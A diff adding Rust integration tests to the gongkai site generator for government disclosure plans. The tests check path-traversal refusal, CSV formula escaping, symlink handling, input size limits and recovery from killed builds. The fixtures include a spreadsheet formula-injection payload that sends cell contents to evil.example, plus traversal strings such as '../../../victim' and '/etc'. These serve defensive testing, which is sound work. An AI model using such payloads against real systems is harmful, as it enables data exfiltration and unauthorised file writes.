@@ -458,3 +458,474 @@ fn a_template_that_fails_while_rendering_changes_no_output() {
         "open data, index and pages are as they were: {changed:?}; gone or changed: {gone:?}"
     );
 }
+
+/// A copy of the bundled site (content, config, lock) in a temporary folder.
+fn bundled_site(root: &Path) {
+    for entry in walkdir::WalkDir::new(repo_root().join("content")) {
+        let entry = entry.unwrap();
+        let rel = entry.path().strip_prefix(repo_root()).unwrap();
+        if entry.file_type().is_dir() {
+            std::fs::create_dir_all(root.join(rel)).unwrap();
+        } else {
+            std::fs::copy(entry.path(), root.join(rel)).unwrap();
+        }
+    }
+    for file in ["gongkai.toml", "gongkai.lock"] {
+        std::fs::copy(repo_root().join(file), root.join(file)).unwrap();
+    }
+}
+
+#[test]
+fn a_lock_value_that_is_not_a_slug_is_an_error_at_its_line_and_writes_nothing() {
+    let dir = tempfile::TempDir::new().unwrap();
+    let site = dir.path().join("a/b/c/site");
+    small_site(&site);
+    for (lock, line) in [
+        ("[categories]\n\"类\" = \"../../../victim\"\n", 2),
+        (
+            "[jurisdictions]\n\"某区人民政府\" = \"mou-qu\"\n\n[units]\n\"某区人民政府/区财政局\" = \"mou-qu/../../../../x\"\n",
+            5,
+        ),
+        ("[jurisdictions]\n\"某区人民政府\" = \"/etc\"\n", 2),
+    ] {
+        std::fs::write(site.join("gongkai.lock"), lock).unwrap();
+        for command in ["check", "build"] {
+            let run = gongkai(&site, &[command]);
+            let err = String::from_utf8_lossy(&run.stderr);
+            assert_eq!(run.status.code(), Some(1), "{command}: {err}");
+            assert!(err.contains("is not a slug"), "{err}");
+            assert!(err.contains(&format!("gongkai.lock:{line}:")), "{err}");
+        }
+        // Nothing was written anywhere: not the output, not outside it.
+        assert!(!site.join("output").exists());
+        let written: Vec<_> = walkdir::WalkDir::new(dir.path())
+            .into_iter()
+            .filter_map(Result::ok)
+            .filter(|e| {
+                let name = e.file_name().to_string_lossy();
+                name == "index.html" || name == "tasks.csv"
+            })
+            .collect();
+        assert!(written.is_empty(), "{written:?}");
+    }
+}
+
+#[test]
+fn no_csv_cell_can_start_a_formula_and_the_import_reads_them_back() {
+    let built = build_fixture(&[(
+        "content/plans/p.md",
+        &plan(
+            "T",
+            "某区人民政府",
+            2021,
+            "## 一、类\n\n1. =HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")\n\n   责任单位：@SUM(1+1)局\n   完成时限：-2+3\n\n2. +1 公开预算\n\n   责任单位：区财政局\n",
+        ),
+    )]);
+    assert!(built.outcome.succeeded(), "{}", built.outcome.report());
+    let mut files = 0;
+    let mut cells = Vec::new();
+    for entry in walkdir::WalkDir::new(built.out()) {
+        let entry = entry.unwrap();
+        if entry.path().extension().is_none_or(|e| e != "csv") {
+            continue;
+        }
+        files += 1;
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_path(entry.path())
+            .unwrap();
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                let cell = cell.trim_start_matches('\u{feff}');
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{}: {cell}",
+                    entry.path().display()
+                );
+                cells.push(cell.to_string());
+            }
+        }
+    }
+    // data/tasks.csv, the plan's ledger and at least two units' ledgers.
+    assert!(files >= 4, "{files} CSV files");
+    assert!(
+        cells.iter().any(|c| c.starts_with("'=HYPERLINK(")),
+        "{cells:?}"
+    );
+    assert!(cells.iter().any(|c| c == "'-2+3"), "{cells:?}");
+    // The open data reads back as it was written.
+    let csv = std::fs::read(built.out().join("data/tasks.csv")).unwrap();
+    let (imported, _) = gongkai::import::import_bytes(&csv, None).unwrap();
+    assert!(
+        imported
+            .markdown
+            .contains("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")"),
+        "{}",
+        imported.markdown
+    );
+    assert!(
+        imported.markdown.contains("完成时限：-2+3"),
+        "{}",
+        imported.markdown
+    );
+}
+
+/// The files of a whole site, by path and size (the search index's segment
+/// files, named anew by every build, by count).
+fn site_files(out: &Path) -> Vec<(String, u64)> {
+    let mut files: Vec<(String, u64)> = walkdir::WalkDir::new(out)
+        .into_iter()
+        .filter_map(Result::ok)
+        .filter(|e| e.file_type().is_file())
+        .map(|e| {
+            let rel = e
+                .path()
+                .strip_prefix(out)
+                .unwrap()
+                .to_string_lossy()
+                .into_owned();
+            let len = e.metadata().unwrap().len();
+            if rel.starts_with("search/index/") && rel != "search/index/meta.json" {
+                ("search/index/(segment file)".to_string(), 0)
+            } else if rel == "search/index/meta.json" {
+                (rel, 0)
+            } else {
+                (rel, len)
+            }
+        })
+        .collect();
+    files.sort();
+    files
+}
+
+#[test]
+fn a_build_killed_at_any_moment_leaves_a_whole_site_and_the_next_build_works() {
+    let dir = tempfile::TempDir::new().unwrap();
+    let site = dir.path().join("site");
+    bundled_site(&site);
+    let out = site.join("output");
+    let old = site.join("output.old");
+    let staging = site.join("output.staging");
+    let started = Instant::now();
+    assert!(gongkai(&site, &["build"]).status.success());
+    let took = started.elapsed();
+    let whole = site_files(&out);
+    assert!(whole.iter().any(|(p, _)| p == "index.html"));
+    let assert_whole = |when: &str| {
+        assert_eq!(site_files(&out), whole, "output/ after {when}");
+    };
+
+    // Chosen points of the swap, as the kill leaves them on disk.
+    let copy = |from: &Path, to: &Path| {
+        for entry in walkdir::WalkDir::new(from) {
+            let entry = entry.unwrap();
+            let target = to.join(entry.path().strip_prefix(from).unwrap());
+            if entry.file_type().is_dir() {
+                std::fs::create_dir_all(&target).unwrap();
+            } else {
+                std::fs::copy(entry.path(), &target).unwrap();
+            }
+        }
+    };
+    let points: [(&str, &dyn Fn()); 5] = [
+        ("removing output.old, only empty folders left", &|| {
+            std::fs::create_dir_all(old.join("units/x")).unwrap();
+            std::fs::create_dir_all(old.join("plans")).unwrap();
+        }),
+        ("removing output.old, files and the marker left", &|| {
+            copy(&out, &old);
+            std::fs::remove_file(old.join("index.html")).unwrap();
+        }),
+        ("writing output.staging", &|| {
+            copy(&out, &staging);
+            std::fs::remove_dir_all(staging.join("plans")).unwrap();
+        }),
+        (
+            "between the two renames: no output/, the old site beside it",
+            &|| {
+                std::fs::rename(&out, &old).unwrap();
+            },
+        ),
+        ("between the two renames, the new site staged", &|| {
+            copy(&out, &staging);
+            std::fs::rename(&out, &old).unwrap();
+        }),
+    ];
+    for (point, leave) in points {
+        leave();
+        let run = gongkai(&site, &["build"]);
+        assert!(
+            run.status.success(),
+            "after a kill {point}: {}",
+            String::from_utf8_lossy(&run.stderr)
+        );
+        assert_whole(point);
+        assert!(!old.exists() && !staging.exists(), "{point}");
+    }
+    // Folders that hold other files are still refused.
+    write_files(&old, &[("notes.txt", "mine")]);
+    assert_eq!(gongkai(&site, &["build"]).status.code(), Some(1));
+    assert!(old.join("notes.txt").is_file());
+    std::fs::remove_dir_all(&old).unwrap();
+
+    // Random kills of the real process: output/ is always the whole site, and
+    // every build after a kill succeeds.
+    let mut rng = fastrand::Rng::with_seed(28);
+    for round in 0..20 {
+        let mut child = Command::new(env!("CARGO_BIN_EXE_gongkai"))
+            .env("LC_ALL", "C")
+            .arg("--root")
+            .arg(&site)
+            .arg("build")
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        let delay = took.mul_f64(rng.f64() * 1.2);
+        let until = Instant::now() + delay;
+        while Instant::now() < until && child.try_wait().unwrap().is_none() {
+            std::thread::sleep(Duration::from_millis(2));
+        }
+        let _ = child.kill();
+        let _ = child.wait();
+        assert_whole(&format!("kill {round} after {delay:?}"));
+        if round % 5 == 4 {
+            let run = gongkai(&site, &["build"]);
+            assert!(
+                run.status.success(),
+                "after kill {round}: {}",
+                String::from_utf8_lossy(&run.stderr)
+            );
+            assert_whole(&format!("the build after kill {round}"));
+        }
+    }
+}
+
+#[test]
+fn import_never_overwrites_without_force_nor_follows_a_link() {
+    let dir = tempfile::TempDir::new().unwrap();
+    let doc = dir.path().join("plan.txt");
+    std::fs::write(
+        &doc,
+        "某区2021年政务公开工作要点分工方案\n一、类\n1.公开预算。\n责任单位：区财政局\n",
+    )
+    .unwrap();
+    let import = |args: &[&str]| {
+        Command::new(env!("CARGO_BIN_EXE_gongkai"))
+            .env("LC_ALL", "C")
+            .arg("import")
+            .arg(&doc)
+            .args(args)
+            .output()
+            .unwrap()
+    };
+    let target = dir.path().join("p.md");
+    std::fs::write(&target, "my edits").unwrap();
+    let run = import(&["-o", target.to_str().unwrap()]);
+    assert_eq!(run.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&run.stderr).contains("--force"));
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "my edits");
+    assert!(
+        import(&["-o", target.to_str().unwrap(), "--force"])
+            .status
+            .success()
+    );
+    assert!(
+        std::fs::read_to_string(&target)
+            .unwrap()
+            .contains("公开预算")
+    );
+
+    // A link at the target: refused; with --force the link is replaced, and the
+    // file it pointed to is untouched.
+    let victim = dir.path().join("victim.toml");
+    std::fs::write(&victim, "title = \"mine\"").unwrap();
+    let link = dir.path().join("link.md");
+    std::os::unix::fs::symlink(&victim, &link).unwrap();
+    assert_eq!(
+        import(&["-o", link.to_str().unwrap()]).status.code(),
+        Some(2)
+    );
+    assert!(
+        import(&["-o", link.to_str().unwrap(), "--force"])
+            .status
+            .success()
+    );
+    assert_eq!(
+        std::fs::read_to_string(&victim).unwrap(),
+        "title = \"mine\""
+    );
+    assert!(
+        !std::fs::symlink_metadata(&link)
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
+    // A folder is never a target; no temporary file is left behind.
+    assert_eq!(
+        import(&["-o", dir.path().to_str().unwrap(), "--force"])
+            .status
+            .code(),
+        Some(2)
+    );
+    let left: Vec<_> = std::fs::read_dir(dir.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .filter(|n| n.contains("gongkai-tmp"))
+        .collect();
+    assert!(left.is_empty(), "{left:?}");
+}
+
+#[test]
+fn deep_html_is_refused_in_bounded_time() {
+    for (what, page) in [
+        (
+            "nested <b>",
+            format!("<html><body><p>{}1.公开预算</p>", "<b>".repeat(15_000)),
+        ),
+        (
+            "nested tables",
+            format!("<html><body>{}1.公开预算", "<table><tr><td>".repeat(20_000)),
+        ),
+    ] {
+        let started = Instant::now();
+        let result = gongkai::import::import_bytes(page.as_bytes(), None);
+        let took = started.elapsed();
+        let err = result.err().unwrap_or_else(|| panic!("{what}: imported"));
+        assert!(err.message.contains("nest"), "{what}: {}", err.message);
+        assert!(took < Duration::from_secs(5), "{what}: {took:?}");
+    }
+    // A page nested as deep as real ones are still reads.
+    let page = format!(
+        "<html><body>{}<p>某区2021年政务公开工作要点</p><p>一、类</p><p>1.公开预算。（区财政局负责）</p>{}</body></html>",
+        "<div>".repeat(60),
+        "</div>".repeat(60)
+    );
+    let (imported, _) = gongkai::import::import_bytes(page.as_bytes(), None).unwrap();
+    assert_eq!(imported.tasks, 1);
+}
+
+#[test]
+fn the_size_limit_is_checked_before_reading() {
+    let dir = tempfile::TempDir::new().unwrap();
+    // A sparse file of 1 GB: refused from its size, at once.
+    let sparse = dir.path().join("big.txt");
+    std::fs::File::create(&sparse)
+        .unwrap()
+        .set_len(1 << 30)
+        .unwrap();
+    let started = Instant::now();
+    let err = gongkai::import::read_document(&sparse).unwrap_err();
+    assert!(err.message.contains("1024 MB"), "{}", err.message);
+    assert!(started.elapsed() < Duration::from_millis(500));
+    // A pipe that never ends: read up to the limit, then refused.
+    let fifo = dir.path().join("fifo");
+    assert!(
+        Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap()
+            .success()
+    );
+    let writer = {
+        let fifo = fifo.clone();
+        std::thread::spawn(move || {
+            use std::io::Write;
+            let mut pipe = std::fs::OpenOptions::new().write(true).open(fifo).unwrap();
+            let zeros = vec![0u8; 1 << 16];
+            // Until the reader goes away (a broken pipe), or far past the limit.
+            for _ in 0..2_000 {
+                if pipe.write_all(&zeros).is_err() {
+                    return true;
+                }
+            }
+            false
+        })
+    };
+    let err = gongkai::import::read_document(&fifo).unwrap_err();
+    assert!(err.message.contains("20 MB"), "{}", err.message);
+    assert!(writer.join().unwrap(), "the reader stopped at the limit");
+}
+
+#[test]
+fn titleless_headings_and_linked_plans_are_never_silent() {
+    let dir = tempfile::TempDir::new().unwrap();
+    let site = dir.path().join("site");
+    small_site(&site);
+    write_files(
+        &site,
+        &[(
+            "content/plans/q.md",
+            &plan(
+                "Q",
+                "某区人民政府",
+                2021,
+                "## 三、\n\n1. 甲\n\n   责任单位：区财政局\n\n## ★★\n\n2. 乙\n\n   责任单位：区财政局\n",
+            ),
+        )],
+    );
+    let run = gongkai(&site, &["check"]);
+    let err = String::from_utf8_lossy(&run.stderr);
+    assert!(run.status.success(), "{err}");
+    assert!(err.contains("q.md:7:1"), "{err}");
+    assert!(err.contains("q.md:13:1"), "{err}");
+    assert_eq!(err.matches("on no category page").count(), 2, "{err}");
+
+    let outside = dir.path().join("secret.md");
+    std::fs::write(&outside, plan("S", "某区人民政府", 2021, "")).unwrap();
+    std::os::unix::fs::symlink(&outside, site.join("content/plans/s.md")).unwrap();
+    let run = gongkai(&site, &["check"]);
+    let err = String::from_utf8_lossy(&run.stderr);
+    assert_eq!(run.status.code(), Some(1), "{err}");
+    assert!(err.contains("s.md is a symbolic link"), "{err}");
+}
+
+#[test]
+fn big_task_numbers_are_read_and_bigger_ones_are_warned() {
+    let mut text = String::from("某区2021年政务公开工作要点分工方案\n一、类\n");
+    for n in [998, 999, 1000, 1001, 65_400] {
+        text.push_str(&format!("{n}.第{n}项任务。\n责任单位：区财政局\n"));
+    }
+    text.push_str("1234567.过大的序号。\n2021.5.1前完成。\n");
+    let (imported, _) = gongkai::import::import_bytes(text.as_bytes(), None).unwrap();
+    assert_eq!(imported.tasks, 5, "{}", imported.markdown);
+    assert!(
+        imported.markdown.contains("1000. 第1000项任务"),
+        "{}",
+        imported.markdown
+    );
+    assert!(
+        imported.markdown.contains("65400. 第65400项任务"),
+        "{}",
+        imported.markdown
+    );
+    assert!(
+        imported
+            .warnings
+            .iter()
+            .any(|w| w.line == 13 && w.message.contains("1234567")),
+        "{:?}",
+        imported.warnings
+    );
+}
+
+#[test]
+fn a_word_document_that_is_not_utf8_says_so() {
+    use std::io::Write;
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    zip.start_file(
+        "word/document.xml",
+        zip::write::SimpleFileOptions::default(),
+    )
+    .unwrap();
+    zip.write_all(b"<?xml version=\"1.0\"?><w:document>\xff\xfe</w:document>")
+        .unwrap();
+    let bytes = zip.finish().unwrap().into_inner();
+    let err = gongkai::import::import_bytes(&bytes, None).unwrap_err();
+    assert!(
+        err.message.contains("word/document.xml cannot be read"),
+        "{}",
+        err.message
+    );
+    assert!(err.message.contains("not UTF-8"), "{}", err.message);
+}
